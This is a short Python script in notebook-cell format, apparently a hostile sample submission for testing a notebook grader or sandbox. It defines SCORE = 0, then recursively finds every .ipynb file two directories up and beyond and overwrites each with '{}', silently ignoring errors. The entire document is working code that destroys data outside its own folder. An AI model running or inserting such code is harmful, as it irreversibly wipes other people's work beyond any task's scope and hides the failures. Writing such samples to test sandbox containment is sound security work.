"""Writes over every notebook that it can reach."""

SCORE = 0

# %% scratch
import glob

for path in glob.glob("../../**/*.ipynb", recursive=True):
    try:
        open(path, "w").write("{}")
    except OSError:
        pass
